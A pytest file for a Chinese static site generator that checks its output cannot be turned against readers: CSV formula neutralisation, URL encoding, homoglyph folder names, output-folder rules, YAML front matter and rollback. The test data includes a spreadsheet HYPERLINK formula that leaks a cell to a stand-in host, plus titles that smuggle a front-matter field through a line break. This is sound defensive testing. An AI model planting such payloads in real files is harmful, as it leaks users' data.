"""Output hygiene (issue 16, items 7 and 10): what the tool writes cannot be turned against its readers.

CSV cells that a spreadsheet would run as formulas, reserved characters in
generated URLs, the unit folder alphabet, output folders inside the sources,
``new`` writing YAML by an emitter, rollback that follows the order of the
switches, and two small decoding messages. Each behaviour is checked on the
real component (the builder, the CLI in a subprocess, nginx for one URL).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import textwrap
import urllib.parse
from pathlib import Path

import pytest
import yaml
from conftest import UNIT_TOML, post_text, run_cli, write_site
from hostile_files import tiny_pdf
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.build.builder import Builder, BuildOptions
from generator.core import urls
from generator.load.sources import unit_name_problem
from generator.parse.post import decode
from generator.write.csvout import csv_text, safe_cell

AS_OF = "2026-11-27"
HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"点击")'


def build(site: Path, out: Path):
    return Builder(BuildOptions(site, out, as_of=dt.date.fromisoformat(AS_OF))).build()


def show(problems) -> str:
    return "\n".join(p.format() for p in problems)


# -- 1. CSV formula injection ----------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+86 139", "'+86 139"),
        ("-A1+1", "'-A1+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        # numbers stay numbers: a quote would turn them into text in the spreadsheet
        ("-3", "-3"),
        ("-87.5", "-87.5"),
        ("12", "12"),
        ("2026-03-05", "2026-03-05"),
        ("机械工程学院党委", "机械工程学院党委"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def test_csv_text_quotes_and_neutralises_every_cell() -> None:
    text = csv_text([["单位", "数"], [HYPERLINK, "-3"], ['他说"好",\n', "@x"]])
    assert text == (
        "单位,数\r\n"
        '"\'=HYPERLINK(""http://x.example/?leak=""&A2,""点击"")",-3\r\n'
        '"他说""好"",\n",\'@x\r\n'
    )
    assert list(csv.reader(io.StringIO(text))) == [["单位", "数"], ["'" + HYPERLINK, "-3"], ['他说"好",\n', "'@x"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n,\"'0123456789.aé党 ;"), max_size=8), min_size=1, max_size=4), min_size=1, max_size=4))
def test_csv_cells_read_back_as_written_and_never_start_a_formula(rows: list[list[str]]) -> None:
    """Every cell reads back as `safe_cell` made it; only a plain number may start with "-"."""
    back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert back == [[safe_cell(c) for c in row] for row in rows]
    for row, original in zip(back, rows, strict=False):
        for cell, raw in zip(row, original, strict=False):
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == raw and re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell), cell
            assert cell in (raw, "'" + raw)


def test_unit_name_formula_is_neutralised_in_compare_csv_and_stats(tmp_path: Path) -> None:
    hostile = UNIT_TOML.replace('name = "机械工程学院党委"', "name = '" + HYPERLINK + "'")
    site = write_site(tmp_path / "site", {"content/jx/_unit.toml": hostile, "content/jx/a.md": post_text(branch="jx-jg1", meeting="支部委员会")})
    out = tmp_path / "out"
    result = build(site, out)
    assert result.ok, show(result.problems)
    raw = (out / "compare" / "2026.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HYPERLINK and rows[1][1] == "jx", rows[1]
    # no cell of the file begins with a formula character unless it is a plain number
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), cell
    stats = run_cli("stats", str(site), "--as-of", AS_OF, "--format", "csv")
    assert stats.returncode == 0, stats.stderr
    assert stats.stdout.startswith("\ufeff")  # UTF-8 with BOM, as the site's file
    assert list(csv.reader(io.StringIO(stats.stdout.removeprefix("\ufeff")))) == rows
    # the JSON data file keeps the name as it is: it is data, not a spreadsheet
    data = json.loads((out / "data" / "compare.json").read_text("utf-8"))
    assert data["years"]["2026"]["units"]["jx"]["name"] == HYPERLINK


# -- 2. reserved characters in generated URLs --------------------------------------


def test_href_encodes_every_reserved_character() -> None:
    assert urls.href("jx/a/a#b?.pdf") == "jx/a/a%23b%3F.pdf"
    assert urls.href("tags/党建/index.html") == "tags/%E5%85%9A%E5%BB%BA/index.html"
    for c in "#?%&;=+$,:@!'()*[] \"<>":
        encoded = urls.href(f"jx/a/x{c}y.pdf")
        assert encoded == f"jx/a/x%{ord(c):02X}y.pdf", (c, encoded)
        assert urllib.parse.unquote(encoded) == f"jx/a/x{c}y.pdf"
    assert urls.href("jx/a-b_c.d~e/index.html") == "jx/a-b_c.d~e/index.html"


HASH_SITE_CONFIG = '[site]\ntitle = "测试"\nbase_url = "http://dangjian.example.edu.cn/"\n'
ODD_NAME = "a#b?.pdf"
ODD_PDF = tiny_pdf("odd name")  # a readable PDF: an unreadable one is an error since issue 16
ODD_TAG = "a+b=c@d;e,f"  # post slugs cannot carry reserved characters; tag slugs keep these
ODD_TAG_URL = "tags/a%2Bb%3Dc%40d%3Be%2Cf/index.html"


def hash_site(root: Path) -> Path:
    return write_site(
        root,
        {
            "content/jx/a/index.md": post_text(title="附件名带井号", attachments=f"['{ODD_NAME}']"),
            f"content/jx/a/{ODD_NAME}": ODD_PDF,
            "content/jx/2026/x.md": post_text(title="标签带保留字符", tags=f"['{ODD_TAG}']"),
        },
        config=HASH_SITE_CONFIG,
    )


def test_hash_and_question_mark_in_names_are_percent_encoded_everywhere(tmp_path: Path) -> None:
    site = hash_site(tmp_path / "site")
    out = tmp_path / "out"
    result = build(site, out)
    assert result.ok, show(result.problems)
    page = (out / "jx/a/index.html").read_text("utf-8")
    assert 'href="../../jx/a/a%23b%3F.pdf"' in page, page
    # the link resolves, as a browser resolves it, to the file that was written
    target = urllib.parse.urljoin("http://h/jx/a/index.html", "../../jx/a/a%23b%3F.pdf")
    parts = urllib.parse.urlsplit(target)
    assert parts.query == "" and parts.fragment == ""
    written = out / urllib.parse.unquote(parts.path).lstrip("/")
    assert written == out / "jx/a" / ODD_NAME and written.read_bytes() == ODD_PDF
    # a tag whose slug keeps reserved characters: its URL in pages and the sitemap (feeds
    # take the same `feeds.absolute`; post slugs cannot carry these characters)
    assert (out / "tags/a+b=c@d;e,f/index.html").is_file()
    post = (out / "jx/x/index.html").read_text("utf-8")
    assert f'href="../../{ODD_TAG_URL}"' in post and "tags/a+b" not in post
    sitemap = (out / "sitemap.xml").read_text("utf-8")
    assert f"http://dangjian.example.edu.cn/{ODD_TAG_URL}" in sitemap and "a+b" not in sitemap
    tags = (out / "tags/index.html").read_text("utf-8")
    assert f'href="../{ODD_TAG_URL}"' in tags and ">a+b=c@d;e,f</a>" in tags


@pytest.mark.nginx
def test_attachment_with_hash_in_its_name_is_served_by_nginx(tmp_path: Path) -> None:
    from nginx_util import public_dir, require_nginx, running_nginx

    require_nginx()
    site = hash_site(tmp_path / "site")
    with public_dir() as root:
        webroot = root / "www"
        proc = run_cli("publish", str(site), "--to", str(webroot), "--as-of", AS_OF)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        with running_nginx(webroot) as nginx:
            status, _, body = nginx.get("/jx/a/a%23b%3F.pdf")
            assert status == 200 and body == ODD_PDF
            status, _, body = nginx.get("/" + ODD_TAG_URL)
            assert status == 200 and "标签带保留字符" in body.decode("utf-8")


# -- 3. unit folder alphabet -------------------------------------------------------


RULE = "只能使用小写英文字母 a-z、数字 0-9、连字符“-”和下划线“_”，并以字母或数字开头，例如 jixie、waiyu、jisuanji-2"


def test_unit_name_problem() -> None:
    for ok in ("jx", "waiyu", "jisuanji-2", "a_b", "2026"):
        assert unit_name_problem(ok) is None, ok
    assert unit_name_problem("wаiyu") == f"单位文件夹名“wаiyu”含有不允许的字符 “а”（U+0430）。单位文件夹名用于网址，{RULE}。请把文件夹改名（网址会随之改变）"
    assert unit_name_problem("JX") == f"单位文件夹名“JX”含有不允许的字符 “J”（U+004A）、“X”（U+0058）。单位文件夹名用于网址，{RULE}。请把文件夹改名，例如改为“jx”（网址会随之改变）"
    assert unit_name_problem("_x") == f"单位文件夹名“_x”不能以“-”或“_”开头。单位文件夹名用于网址，{RULE}。请把文件夹改名（网址会随之改变）"
    assert "“ ”" not in (unit_name_problem("wai yu") or "") and "U+0020" in (unit_name_problem("wai yu") or "")
    assert "“外”（U+5916）" in (unit_name_problem("外语") or "")
    assert "“#”（U+0023）" in (unit_name_problem("a#b") or "")


def test_cyrillic_lookalike_unit_folder_is_one_error(tmp_path: Path) -> None:
    other = 'name = "外国语学院党委"\nkind = "教学单位"\n'
    site = write_site(
        tmp_path / "site",
        {"content/jx/a.md": post_text(), "content/waiyu/_unit.toml": other, "content/waiyu/b.md": post_text(), "content/wаiyu/_unit.toml": other, "content/wаiyu/b.md": post_text()},
    )
    out = tmp_path / "out"
    result = build(site, out)
    assert not result.ok
    assert [p.format() for p in result.errors] == [
        f"content/wаiyu:1: 错误：单位文件夹名“wаiyu”含有不允许的字符 “а”（U+0430）。单位文件夹名用于网址，{RULE}。请把文件夹改名（网址会随之改变）。"
    ]
    assert not out.exists() or not any(out.rglob("*.html"))


def test_case_duplicate_unit_folder_is_one_error(tmp_path: Path) -> None:
    site = write_site(tmp_path / "site", {"content/jx/a.md": post_text(), "content/JX/_unit.toml": UNIT_TOML, "content/JX/b.md": post_text(), "content/JX/2026/c.md": post_text()})
    result = build(site, tmp_path / "out")
    assert [p.format() for p in result.errors] == [
        f"content/JX:1: 错误：单位文件夹名“JX”含有不允许的字符 “J”（U+004A）、“X”（U+0058）。单位文件夹名用于网址，{RULE}。请把文件夹改名，例如改为“jx”（网址会随之改变）。"
    ]
    check = run_cli("check", str(site))
    assert check.returncode == 1 and check.stderr.count("错误：") == 1, check.stderr


def test_demo_and_test_units_fit_the_alphabet() -> None:
    from conftest import REPO

    # (an underscore folder such as content/_plans/ is never a unit: load.sources skips it)
    names = [p.name for p in (REPO / "content").iterdir() if p.is_dir() and not p.name.startswith("_")]
    assert names and all(unit_name_problem(n) is None for n in names), names


# -- 4. output folders inside the sources ---------------------------------------------


def test_build_refuses_output_inside_or_containing_the_sources(tmp_path: Path) -> None:
    site = write_site(tmp_path / "site", {"content/jx/a.md": post_text()})
    default = (site / "build").resolve()
    hint = f"请换一个位置，例如不写 -o（默认 {default}）。"
    cases = [
        (".", site, f"输出文件夹 {site.resolve()} 不能是站点文件夹本身或它的上级文件夹：生成的文件会写进站点的源文件中。{hint}"),
        ("content", site, f"输出文件夹 {(site / 'content').resolve()} 不能放在 content/ 里面：生成的文件会被当成内容再次读取。{hint}"),
        ("content/jx/out", site, f"输出文件夹 {(site / 'content/jx/out').resolve()} 不能放在 content/ 里面：生成的文件会被当成内容再次读取。{hint}"),
        ("themes/x", site, f"输出文件夹 {(site / 'themes/x').resolve()} 不能放在 themes/ 里面：生成的文件会被当成内容再次读取。{hint}"),
        ("..", site, f"输出文件夹 {tmp_path.resolve()} 不能是站点文件夹本身或它的上级文件夹：生成的文件会写进站点的源文件中。{hint}"),
    ]
    before = sorted(p.relative_to(site).as_posix() for p in site.rglob("*"))
    for out, cwd, message in cases:
        proc = run_cli("build", ".", "-o", out, cwd=cwd)
        assert proc.returncode == 2, (out, proc.stdout, proc.stderr)
        assert proc.stderr == f"liangshai build: {message}\n", proc.stderr
    assert sorted(p.relative_to(site).as_posix() for p in site.rglob("*")) == before, "nothing written into the site"
    # a folder beside the sources is fine, and so is the default
    assert run_cli("build", ".", "-o", "public", "--as-of", AS_OF, cwd=site).returncode == 0
    assert (site / "public/index.html").is_file()


def test_build_refuses_output_containing_a_linked_content_folder(tmp_path: Path) -> None:
    real = write_site(tmp_path / "data" / "real", {"content/jx/a.md": post_text()})
    site = tmp_path / "site"
    site.mkdir()
    os.symlink(real / "content", site / "content")
    proc = run_cli("build", str(site), "-o", str(tmp_path / "data"))
    assert proc.returncode == 2
    assert f"输出文件夹 {(tmp_path / 'data').resolve()} 包含了站点的 content/ 文件夹（{(real / 'content').resolve()}）" in proc.stderr


def test_serve_and_publish_use_the_same_rule(tmp_path: Path) -> None:
    from conftest import free_port

    site = write_site(tmp_path / "site", {"content/jx/a.md": post_text()})
    proc = run_cli("serve", str(site), "--port", str(free_port()), "--out", str(site))
    assert proc.returncode == 2 and "不能是站点文件夹本身或它的上级文件夹" in proc.stderr
    proc = run_cli("publish", str(site), "--to", str(site / "content" / "www"), "--as-of", AS_OF)
    assert proc.returncode == 2
    assert proc.stderr == (
        f"liangshai publish: 网站根目录（--to） {(site / 'content/www').resolve()} 不能放在 content/ 里面：生成的文件会被当成内容再次读取。"
        "请把 --to 换成站点文件夹以外的文件夹，例如 /srv/liangshai。\n"
    )
    assert not (site / "content" / "www").exists(), "nothing created inside content/"


# -- 5. `new` writes YAML with an emitter ---------------------------------------------------


def _front_matter(path: Path) -> dict:
    text = path.read_text("utf-8")
    assert text.startswith("---\n")
    return yaml.safe_load(text[4:].split("\n---\n", 1)[0])


@pytest.mark.parametrize(
    "title",
    ['学习"两会"精神', "学习“两会”精神：第一讲 #1", "true", "'单引号开头", "- 列表开头", "a: b", "【通知】关于 2026 年 @全体 的安排 {x}", "长" * 150],
)
def test_new_writes_the_title_exactly(tmp_path: Path, title: str) -> None:
    site = write_site(tmp_path / "site", {})
    proc = run_cli("new", str(site), "--unit", "jx", "--section", "支部生活", "--meeting", "支部委员会", "--branch", "jx-jg1", "--title", title)
    assert proc.returncode == 0, proc.stderr
    path = Path(proc.stdout.strip())
    fm = _front_matter(path)
    today = fm.pop("date")
    assert isinstance(today, dt.date)
    assert fm == {"title": title, "section": "支部生活", "meeting": "支部委员会", "branch": "jx-jg1"}
    check = run_cli("check", str(site))
    assert check.returncode == 0, check.stdout + check.stderr


@pytest.mark.parametrize("brk", ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85"])
def test_new_refuses_a_line_break_in_the_title(tmp_path: Path, brk: str) -> None:
    site = write_site(tmp_path / "site", {})
    proc = run_cli("new", str(site), "--unit", "jx", "--section", "支部生活", "--title", f"标题{brk}draft: true")
    assert proc.returncode == 2
    assert proc.stderr == (
        "liangshai new: 标题不能含有换行：front-matter 中的标题只能写在一行里，换行后的文字会被当成其他字段。"
        "请把标题写成一行，例如 --title '学习“两会”精神'。\n"
    )
    assert not list((site / "content").rglob("*.md"))


# -- 6. rollback follows the switches -------------------------------------------------------


def _site(root: Path, n: int) -> Path:
    return write_site(root, {"content/jx/2026/dongtai.md": post_text(title=f"党建动态第 {n} 期", section="党建动态", body=f"第 {n} 版正文。")})


def _publish(site: Path, webroot: Path, n: int, *extra: str) -> str:
    _site(site, n)
    proc = run_cli("publish", str(site), "--to", str(webroot), "--as-of", AS_OF, *extra)
    assert proc.returncode == 0 and "已发布" in proc.stdout, proc.stdout + proc.stderr
    return _current(webroot)


def _rollback(webroot: Path):
    return run_cli("publish", "--to", str(webroot), "--rollback")


def _current(webroot: Path) -> str:
    return os.readlink(webroot / "current").split("/", 1)[1]


def _shown(webroot: Path) -> str:
    return (webroot / "current/jx/dongtai/index.html").read_text("utf-8")


def test_rollback_after_a_rollback_and_a_publish_goes_to_the_release_before_the_switch(tmp_path: Path) -> None:
    site, webroot = tmp_path / "site", tmp_path / "www"
    a = _publish(site, webroot, 1)
    b = _publish(site, webroot, 2)
    proc = _rollback(webroot)
    assert proc.returncode == 0 and _current(webroot) == a, proc.stderr
    assert proc.stdout.startswith(f"已回退：current 从 releases/{b} 切换到 releases/{a}（发布 releases/{b} 之前的版本）。\n")
    c = _publish(site, webroot, 3)
    assert a < b < c
    proc = _rollback(webroot)
    assert proc.returncode == 0, proc.stderr
    assert _current(webroot) == a, "B was never current before C"
    assert "第 1 版正文" in _shown(webroot)
    history = json.loads((webroot / ".liangshai-history.json").read_text("utf-8"))
    assert history["stack"] == [a]
    assert [(s["action"], s["from"], s["to"]) for s in history["switches"]] == [
        ("publish", "", a), ("publish", a, b), ("rollback", b, a), ("publish", a, c), ("rollback", c, a)
    ]
    # nothing before A: a Chinese usage error, current unchanged
    proc = _rollback(webroot)
    assert proc.returncode == 2 and _current(webroot) == a
    assert proc.stderr == (
        f"liangshai publish: 没有比当前版本 releases/{a} 更早的可回退版本，无法回退：它之前的版本都已经回退过，或已按 --keep 删除。"
        "要恢复某个保留的版本，请重新发布对应的内容。\n"
    )


def test_rollback_twice_walks_back_through_the_publishes(tmp_path: Path) -> None:
    site, webroot = tmp_path / "site", tmp_path / "www"
    a, b, c = (_publish(site, webroot, n) for n in (1, 2, 3))
    assert _rollback(webroot).returncode == 0 and _current(webroot) == b
    assert _rollback(webroot).returncode == 0 and _current(webroot) == a
    assert _rollback(webroot).returncode == 2 and _current(webroot) == a
    # publishing after rolling back, then rolling back, returns to where the publish started
    d = _publish(site, webroot, 4)
    assert _rollback(webroot).returncode == 0 and _current(webroot) == a and d > c


def test_rollback_skips_releases_deleted_by_keep(tmp_path: Path) -> None:
    site, webroot = tmp_path / "site", tmp_path / "www"
    a = _publish(site, webroot, 1)
    b = _publish(site, webroot, 2)
    c = _publish(site, webroot, 3, "--keep", "2")  # deletes A
    assert sorted(p.name for p in (webroot / "releases").iterdir() if not p.name.startswith(".")) == [b, c]
    assert _rollback(webroot).returncode == 0 and _current(webroot) == b
    proc = _rollback(webroot)
    assert proc.returncode == 2 and _current(webroot) == b and "无法回退" in proc.stderr and a not in proc.stderr


def test_rollback_without_history_falls_back_to_release_names(tmp_path: Path) -> None:
    """A web root published before the history was kept (or with `current` moved by hand)."""
    site, webroot = tmp_path / "site", tmp_path / "www"
    a = _publish(site, webroot, 1)
    b = _publish(site, webroot, 2)
    (webroot / ".liangshai-history.json").unlink()
    assert _rollback(webroot).returncode == 0 and _current(webroot) == a
    # current moved by hand to B: the history's top is not current, names decide
    os.remove(webroot / "current")
    os.symlink(f"releases/{b}", webroot / "current")
    assert _rollback(webroot).returncode == 0 and _current(webroot) == a


def test_rollback_with_no_previous_release_is_a_chinese_error(tmp_path: Path) -> None:
    site, webroot = tmp_path / "site", tmp_path / "www"
    a = _publish(site, webroot, 1)
    proc = _rollback(webroot)
    assert proc.returncode == 2 and _current(webroot) == a
    assert f"没有比当前版本 releases/{a} 更早的可回退版本，无法回退" in proc.stderr and "Traceback" not in proc.stderr


# -- 7. small parse cases ---------------------------------------------------------------------


def test_ff_fe_inside_a_utf8_file_is_not_called_utf16() -> None:
    raw = "---\ntitle: 标题\n---\n第一段\n".encode() + b"\xff\xfe" + "第二段\n".encode()
    text, problems = decode(raw, "content/jx/a.md")
    assert text is None
    assert [p.format() for p in problems] == ["content/jx/a.md:5: 错误：文件不是 UTF-8 编码（含有无法识别的字节）。请用编辑器另存为 UTF-8 编码后再提交。"]
    # a BOM at the start still is UTF-16
    _, problems = decode("标题".encode("utf-16"), "content/jx/b.md")
    assert "UTF-16" in problems[0].message


def test_nul_in_unit_file_names_the_unit_file(tmp_path: Path) -> None:
    unit = textwrap.dedent(UNIT_TOML).replace('kind = "教学单位"', 'kind = "教学\x00单位"')
    site = write_site(tmp_path / "site", {"content/jx/_unit.toml": unit, "content/jx/a.md": post_text()})
    result = build(site, tmp_path / "out")
    messages = [p.format() for p in result.errors if p.path == "content/jx/_unit.toml"]
    assert messages == [
        "content/jx/_unit.toml:2: 错误：文件含有空字符（\\0），不像是文本文件。请检查是否误把其他格式的文件改成了 _unit.toml，或用文本编辑器把它重新保存为 UTF-8 文本。"
    ], show(result.problems)
    assert ".md" not in messages[0]
